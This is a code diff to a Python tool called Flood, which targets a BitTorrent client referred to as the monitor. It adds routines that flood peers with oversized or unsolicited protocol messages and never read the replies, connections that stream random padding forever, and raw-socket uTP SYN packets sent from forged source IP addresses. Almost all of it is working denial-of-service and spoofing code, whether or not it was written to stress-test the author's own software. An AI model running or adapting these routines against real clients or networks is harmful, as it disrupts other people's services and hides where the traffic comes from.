@@ -16,6 +16,7 @@ import ipaddress
 import json
 import os
 import random
+import socket
 import struct
 import sys
 
@@ -30,6 +31,7 @@ AT_ONCE = 100
 A_MESSAGE = 2000	# names in one of PEX
 PEER_PORT, TRACKER_PORT, VICTIM_PORT = 6881, 7000, 80
 EXTENDED = bytes(5) + b"\x10\0\4"
+FORGED = int(ipaddress.ip_address("11.77.128.0"))	# ... and those behind it
 BAD_PIECE = 42		# one bit of it is wrong
 did = collections.Counter()
 
@@ -178,9 +180,70 @@ async def exchanges(t):
 		await asyncio.sleep(0.2)
 
 
+async def repeat(t, *messages):
+	"""Without end, and whatever comes is not even read."""
+	await t.greet()
+	while True:
+		await t.say(b"".join(messages) * (65536 // len(messages[0]) //
+		    len(messages) + 1))
+
+
+async def dictionaries(t):
+	"""Extended handshakes, each as long as may be."""
+	await repeat(t, *(message(20, b"\0" + bencode({"m": {"x%d" % i: i},
+	    "v": "x" * 30000})) for i in range(2)))
+
+
+async def sizes(t):
+	"""Metadata whose size is another each time, and its parts, which
+	nobody asked for."""
+	await repeat(t, *(message(20, b"\0" + bencode({"m": {"ut_metadata": 3},
+	    "metadata_size": 2 ** i})) + message(20, b"\2" + bencode(
+	    {"msg_type": 1, "piece": i, "total_size": 2 ** i}) + bytes(2 ** 14))
+	    for i in range(1, 30)))
+
+
+async def long_exchange(t):
+	await t.greet()
+	await t.say(message(20, b"\1" + bencode({"added": bytes(10 ** 6)})))
+
+
+async def hash_requests(t):
+	await repeat(t, *(message(21, os.urandom(32) +
+	    struct.pack(">IIII", 0, 0, 512, i)) for i in range(100)))
+
+
+async def fasts(t):
+	await repeat(t, *(message(17, struct.pack(">I", i))
+	    for i in range(t.c.pieces)))
+
+
+async def rejects(t):
+	await repeat(t, *(message(16, struct.pack(">III", i, 0, 2 ** 14))
+	    for i in range(t.c.pieces)))
+
+
+async def requests(t):
+	"""Each would have an answer."""
+	await repeat(t, *(message(6, struct.pack(">III", i, 0, 2 ** 14))
+	    for i in range(t.c.pieces)))
+
+
+async def ports(t):
+	"""A DHT node at every port."""
+	await repeat(t, *(message(9, struct.pack(">H", i))
+	    for i in range(1, 65536)))
+
+
+async def keepalives(t):
+	await repeat(t, bytes(4))
+
+
 WAYS = (haves, bitfields, handshakes, trickles, huge_have, huge_bitfield,
-    huge_metadata, other_blocks, one_bit, mid_piece, exchanges)
-CALL = (haves, bitfields, handshakes, exchanges, mid_piece)
+    huge_metadata, other_blocks, one_bit, mid_piece, exchanges, dictionaries,
+    sizes, long_exchange, hash_requests, fasts, rejects, requests, ports,
+    keepalives)
+CALL = (haves, bitfields, handshakes, exchanges, mid_piece, requests, sizes)
 CALL6 = (haves, handshakes)
 
 
@@ -210,6 +273,10 @@ def utp_of(first):
 	return address(first, len(WAYS) + 3 + len(CALL))
 
 
+def pads_of(first):
+	return address(first, len(WAYS) + 4 + len(CALL))
+
+
 def dials6_of(first6):
 	"""The one of many connections, and of CALL6."""
 	return [address(first6, i) for i in range(1 + len(CALL6))]
@@ -218,7 +285,7 @@ def dials6_of(first6):
 def addresses(first):
 	return [address(first, i) for i in range(len(WAYS))] + \
 	    [tracker_of(first), node_of(first)] + dials_of(first) + \
-	    [utp_of(first)]
+	    [utp_of(first), pads_of(first)]
 
 
 def addresses6(first6):
@@ -379,6 +446,37 @@ class Flood:
 			except OSError:
 				pass
 
+	async def pad(self, me):
+		"""An encrypted handshake's first key, and padding for ever."""
+		while True:
+			try:
+				reader, writer = await asyncio.open_connection(
+				    *self.monitor, local_addr=(me, 0))
+				did["padded"] += 1
+				while not reader.at_eof():
+					writer.write(os.urandom(4096))
+					await writer.drain()
+			except OSError:
+				pass
+			await asyncio.sleep(5)
+
+	async def forge(self):
+		"""SYNs of conversations over uTP, each from another address
+		and port; whoever has it knows nothing of that."""
+		s = socket.socket(socket.AF_INET, socket.SOCK_RAW,
+		    socket.IPPROTO_RAW)
+		to, port = self.monitor
+		for i in range(TIMES_UTP):
+			syn = struct.pack(">BBHIIIHH", 0x41, 0, i, 0, 0, 0, 1, 0)
+			udp = struct.pack(">HHHH", 1024 + i, port,
+			    8 + len(syn), 0) + syn
+			s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0,
+			    20 + len(udp), i, 0, 64, 17, 0,
+			    ipaddress.ip_address(FORGED + i).packed,
+			    ipaddress.ip_address(to).packed) + udp, (to, 0))
+			did["forged"] += 1
+			await asyncio.sleep(0.005)
+
 	async def call_utp(self, me):
 		"""From ten ports, in turn."""
 		loop = asyncio.get_running_loop()
@@ -409,7 +507,8 @@ class Flood:
 		    for _ in range(AT_ONCE)] + \
 		    [self.call(me, way) for me, way in zip(others + others6,
 		    CALL + CALL6)] + [self.call_utp(utp_of(first))
-		    for first in (self.first, self.first6)]
+		    for first in (self.first, self.first6)] + \
+		    [self.pad(pads_of(self.first)), self.forge()]
 		self.tasks = [asyncio.ensure_future(t) for t in tasks]
 		end = loop.run_in_executor(None, sys.stdin.read)
 		while not end.done():
